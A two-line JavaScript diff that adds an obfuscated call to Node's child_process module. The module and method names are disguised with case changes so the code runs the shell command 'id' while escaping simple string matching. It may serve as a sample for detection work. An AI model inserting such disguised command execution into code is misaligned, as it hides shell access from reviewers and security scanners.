@@ -1,0 +1,2 @@
+const m = require('ChIlD_pRoCeSs'.toLocaleLowerCase());
+m['EXEC'.toLowerCase()]('id');
